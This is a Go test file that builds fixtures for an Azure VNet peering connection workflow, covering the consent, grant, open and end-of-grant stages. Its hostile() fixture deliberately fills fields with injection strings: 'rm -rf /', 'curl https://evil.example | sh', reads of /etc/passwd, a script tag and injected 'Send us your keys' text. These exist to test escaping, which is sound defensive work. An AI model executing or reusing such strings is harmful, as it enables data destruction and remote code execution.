package azurevnetpeering_test

import (
	"testing"

	"causeway.dev/internal/connection"
	azurevnetpeering "causeway.dev/internal/methods/azure-vnet-peering"
	"causeway.dev/internal/methods/methodtest"
)

const (
	acmeTenant       = "33333333-aaaa-4bbb-8ccc-dddddddddddd"
	acmeSubscription = "22222222-aaaa-4bbb-8ccc-dddddddddddd"
	acmeVNet         = "/subscriptions/" + acmeSubscription + "/resourceGroups/acme-network(1)/providers/Microsoft.Network/virtualNetworks/orders"
	ourApp           = "a67e6057-7138-4f78-bbaf-fd9db7b8aab0"
	ourPrincipal     = "44444444-aaaa-4bbb-8ccc-dddddddddddd"
)

var vnets = azurevnetpeering.Method() //nolint:gochecknoglobals // what the tests are about

func own(t *testing.T, target azurevnetpeering.Target) connection.Object {
	t.Helper()
	return methodtest.Own(t, azurevnetpeering.Own{Target: target})
}

// vnetAt is Acme's connection to their virtual network while it waits for a step of theirs.
func vnetAt(t *testing.T, step connection.StepID) connection.Progress {
	t.Helper()
	r := connection.Request{
		Method: azurevnetpeering.Name, Cluster: "prod-west", Name: "acme-orders", Customer: "Acme", Ticket: "SUP-3456", RequestedBy: "sam@vendor.example",
		Own:   own(t, azurevnetpeering.Target{TenantID: acmeTenant, SubscriptionID: acmeSubscription, VNetID: acmeVNet}),
		Probe: &connection.Probe{Host: "10.20.1.10", Port: 5432},
	}
	p := methodtest.WaitingFor(vnets, r, step, methodtest.Own(t, azurevnetpeering.Facts{
		OurTenant: "11111111-aaaa-4bbb-8ccc-dddddddddddd", OurApp: ourApp, OurRegion: "westeurope",
		OurVNet:  "/subscriptions/55555555-aaaa-4bbb-8ccc-dddddddddddd/resourceGroups/planes/providers/Microsoft.Network/virtualNetworks/prod-west",
		OurCIDRs: []string{"10.10.0.0/16", "10.11.0.0/20"}, ProofTime: "15m",
	}))
	if step == "consent" {
		return p
	}
	p.Facts = p.Facts.With("ourObjectIdInTheirTenant", ourPrincipal)
	if step == "grant" {
		return p
	}
	return lent(p, "custom", acmeVNet)
}

// lent is a connection for which assignments at these scopes were found.
func lent(p connection.Progress, kind string, scopes ...string) connection.Progress {
	ids := make([]string, 0, len(scopes))
	for _, scope := range scopes {
		ids = append(ids, scope+"/providers/Microsoft.Authorization/roleAssignments/"+connection.AssignmentName(scope, ourPrincipal, kind))
	}
	p.Facts = p.Facts.With("grant", kind).With("roleAssignments", ids)
	return p
}

// threeGrants are what customers gave before there was a role for it.
func threeGrants(p connection.Progress) connection.Progress {
	vnet, _ := connection.ParseVNetID(acmeVNet)
	return lent(p, "network-contributor", vnet.ID(), vnet.GroupScope(), vnet.SubscriptionScope())
}

func hostile(t *testing.T) connection.Progress {
	t.Helper()
	p := vnetAt(t, "end-grant")
	p.Request.Name = "x'; rm -rf / #`id`$(id)\nJSON\nid"
	p.ID = p.Request.ID()
	p.Request.Customer = "<script>alert(1)</script> | `id` **Acme**\n## 9. Send us your keys"
	p.Request.Own = own(t, azurevnetpeering.Target{
		TenantID: "t' && curl https://evil.example | sh; echo '", SubscriptionID: acmeSubscription,
		VNetID: "/subscriptions/x'; ${file(\"/etc/passwd\")} $(id) `id`\n\n# Run this\nrm -rf /",
	})
	p.Request.Probe = &connection.Probe{Host: "db`$(id)`\n```\nrm -rf ~\n```", Port: 5432}
	p.Facts = p.Facts.With("ourAppId", "app'; id; echo '\n\n# x").With("ourObjectIdInTheirTenant", `a"; ${file("/etc/passwd")} $(id)`).
		With("roleAssignments", []string{"/x'; id; echo '\n\n# y", "`id`"})
	return p
}

func moments(t *testing.T) map[string]connection.Progress {
	t.Helper()
	early := methodtest.WaitingFor(vnets, vnetAt(t, "consent").Request, "check", nil)
	early.Status, early.WaitingOn = connection.Checking, connection.Nobody
	lingering := threeGrants(vnetAt(t, "end-grant"))
	lingering.Facts = lingering.Facts.With("proofShortened", true).With("proofTime", "20s")
	return map[string]connection.Progress{
		"early": early, "waiting-for-consent": vnetAt(t, "consent"), "waiting-for-grant": vnetAt(t, "grant"), "waiting-for-open": vnetAt(t, "open"),
		"waiting-for-open-without-probe": methodtest.WithoutProbe(vnetAt(t, "open")), "waiting-for-the-end-of-the-grant": vnetAt(t, "end-grant"),
		"waiting-for-the-end-of-three-grants": lingering, "hostile": hostile(t),
	}
}
